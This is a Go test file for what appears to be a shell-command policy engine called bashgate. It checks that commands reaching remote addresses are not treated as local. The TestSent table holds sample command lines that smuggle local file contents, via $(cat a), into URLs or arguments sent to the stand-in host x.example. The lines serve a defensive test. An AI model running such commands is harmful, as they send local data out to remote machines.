package engine_test

import (
	"strings"
	"testing"

	"github.com/bashgate/bashgate/engine"
	"github.com/bashgate/bashgate/gates"
	"github.com/bashgate/bashgate/internal/match"
	"github.com/bashgate/bashgate/policy"
)

// TestFetched: no word or option that is read is an address and stays on this
// machine, whatever the program.
func TestFetched(t *testing.T) {
	e := engine.New(engine.Options{})
	lines := 0
	try := func(line string) {
		lines++
		if v := judge(e, line, ""); v.Decision == policy.Allow && v.Reach == policy.ReachLocal {
			t.Errorf("%s stays on this machine", line)
		}
	}
	for _, g := range gates.All {
		for _, p := range g.Programs() {
			for i := range p.Rules {
				r := &p.Rules[i]
				if r.Decision != policy.Allow || len(r.Paths) > 0 && strings.ContainsAny(r.Paths[0], "*?[") {
					continue
				}
				for k, o := range r.Operands {
					if o.Kind == match.Read || o.Kind == match.Path || o.Kind == match.Source {
						try(spelled(p, r, k) + " http://x.example/S")
					}
				}
			}
			for _, l := range p.Levels {
				for i := range l.Options {
					o := &l.Options[i]
					if o.Kind != match.Read && o.Kind != match.Path || o.Arity != match.Value || strings.ContainsAny(l.Path, "*?[") {
						continue
					}
					for spelling := range strings.FieldsSeq(o.Spellings) {
						if !strings.ContainsAny(spelling, "*?[") && l.Style != match.Keys {
							try(strings.Join(strings.Fields(p.Name+" "+l.Path+" "+spelling+" http://x.example/S"), " "))
						}
					}
				}
			}
		}
	}
	if lines < 1000 {
		t.Errorf("only %d lines", lines)
	}
}

// TestSent: what is not known of a command that names a machine goes there.
func TestSent(t *testing.T) {
	e := engine.New(engine.Options{})
	rows := []struct {
		line string
		want policy.Decision
	}{
		{`deno info "https://x.example/$(cat a)"`, policy.Ask},
		{`deno doc https://x.example/$(cat a).ts`, policy.Ask},
		{`pandoc -H "http://x.example/$(cat a)" a.md`, policy.Ask},
		{`trivy image "x.example/$(cat a)"`, policy.Ask},
		{`grype "x.example/$(cat a)"`, policy.Ask},
		{`git ls-remote -o "$(cat a)" https://x.example/y`, policy.Ask},
		{`psql -h x.example -U "$(cat a)"`, policy.Ask},
		{`x=$(cat a); psql -h x.example -U "$x"`, policy.Ask},
		{`ssh-keyscan -f a`, policy.Ask},
		{`git ls-remote https://x.example/y HEAD`, policy.Allow},
		{`trivy image --severity HIGH x.example/a:1`, policy.Allow},
		{`grype dir:src`, policy.Allow},
	}
	for _, r := range rows {
		if v := judge(e, r.line, ""); v.Decision != r.want {
			t.Errorf("%s: %v (%s), want %v", r.line, v.Decision, v.Reason, r.want)
		}
	}
}
